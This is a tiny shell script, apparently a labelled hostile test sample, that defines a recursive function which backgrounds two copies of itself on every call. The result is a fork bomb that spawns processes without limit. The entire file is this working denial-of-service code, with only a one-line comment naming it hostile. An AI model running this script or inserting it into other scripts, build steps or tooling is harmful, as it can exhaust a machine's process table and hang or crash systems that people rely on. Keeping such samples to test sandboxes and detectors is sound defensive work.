#!/bin/sh
# Hostile: forks without limit (each child forks two more and waits).
echo "forking"
bomb() {
    bomb &
    bomb &
    sleep "$MARK"
}
bomb
